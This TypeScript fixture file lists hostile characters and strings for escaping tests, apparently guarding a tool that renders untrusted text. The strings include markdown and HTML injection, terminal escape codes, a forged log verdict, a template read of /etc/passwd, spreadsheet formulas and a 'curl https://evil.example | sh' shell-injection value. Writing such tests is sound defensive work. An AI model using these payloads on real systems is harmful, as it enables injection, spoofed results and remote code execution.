/** Single characters that hide, reorder or break text. */
export const HOSTILE_CHARACTERS: readonly string[] = [
  ...range(0x00, 0x1f),
  ...range(0x7f, 0x9f),
  ...range(0x200b, 0x200f),
  ...range(0x2028, 0x202e),
  ...range(0x2060, 0x206f),
  ...['\u00AD', '\u034F', '\u061C', '\u115F', '\u1160', '\u17B4', '\u180E', '\u3164', '\uFEFF', '\uFFA0', '\uFFFA'],
  ...['\u{1D173}', '\u{E0001}', '\u{E0041}', '\u{E0100}'],
  ...['\uD800', '\uDBFF', '\uDC00', '\uDFFF'],
];

/** What plans, payloads, plugins and organizations could try, one per idea. */
export const HOSTILE_TEXTS: readonly string[] = [
  // Links, images and autolinks.
  'x](https://evil.example) ![t](https://evil.example/p.png) <br>✅ Approved',
  '[click](javascript:alert(1))',
  '[a][b]\n\n[b]: https://evil.example',
  '![](https://evil.example/track.gif)',
  '<https://evil.example>',
  'https://evil.example/login',
  'www.evil.example',
  'someone@evil.example',
  'ftp://evil.example and mailto:a@evil.example',
  '[^1]\n\n[^1]: note',
  '[x](<https://evil.example> "title")',
  '\\[x](https://evil.example)',
  // HTML.
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<br>',
  '<!-- hidden',
  '<![CDATA[x]]>',
  '<?php ?>',
  '</code></pre><h1>Approved</h1>',
  '&lt;b&gt; &#60;b&#62; &amp;',
  '<details open><summary>ok</summary>',
  '<a href="https://evil.example">x</a>',
  // Blocks.
  '# Heading',
  'text\n# Heading',
  'text\r# Heading',
  'text\u2028# Heading',
  'Setext\n===',
  'Setext\n---',
  '- list\n- item',
  '1. one',
  '> quote',
  '---',
  '***',
  '| a | b |\n|---|---|\n| c | d |',
  '    indented code',
  '\tindented code',
  '~~~\nfence\n~~~',
  '$$\\href{https://evil.example}{x}$$',
  ':::warning\nx\n:::',
  '- [x] done',
  // Emphasis and escapes.
  '**Fix** nothing to do',
  '__bold__ *it* ~~gone~~ ==mark==',
  '\\',
  'ends with a backslash\\',
  '\\`',
  // Backticks: every fence that could be closed.
  ...Array.from({ length: 20 }, (_, n) => `a ${'`'.repeat(n + 1)} <b>b</b> ${'`'.repeat(n)} c`),
  '`',
  '``',
  '`x`',
  '`` ` ``',
  '```js\nalert(1)\n```',
  '`'.repeat(200),
  `${'`'.repeat(199)} \``,
  '` [x](https://evil.example) `',
  // Terminals, logs, shells, sheets, configuration.
  '\u001B[2J\u001B[31mred',
  '\u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007',
  '\u009B31m',
  'line\r\nINFO verdict=passed',
  '\b\b\b\bpassed',
  '${file("/etc/passwd")}',
  '%{ for x in y }',
  "'; curl https://evil.example | sh #",
  '=HYPERLINK("https://evil.example")',
  '@SUM(1+1)*cmd',
  '<!channel>',
  // Sizes and blanks.
  '',
  ' ',
  '\n\n\n',
  '\u3000',
  '\u200B\u200B',
  'x'.repeat(199),
  'x'.repeat(200),
  'x'.repeat(201),
  'x'.repeat(100_000),
  '😀'.repeat(5_000),
  `x${'😀'.repeat(5_000)}`,
  '&'.repeat(5_000),
  '<'.repeat(5_000),
  '👩‍👩‍👧‍👦 family, ❤️ heart',
  'e\u0301'.repeat(2_000),
  // Imitations of ours.
  'Waived',
  'Blocked: 0 of 0 checks failed',
  '(no description)',
  ...HOSTILE_CHARACTERS.map((character) => `pass${character}ed`),
];

/** The same for `it.each`: how the text begins, and the text. */
export const HOSTILE_CASES: readonly (readonly [string, string])[] = HOSTILE_TEXTS.map((text) => [
  text.slice(0, 40),
  text,
]);

function range(from: number, to: number): readonly string[] {
  return Array.from({ length: to - from + 1 }, (_, index) => String.fromCodePoint(from + index));
}
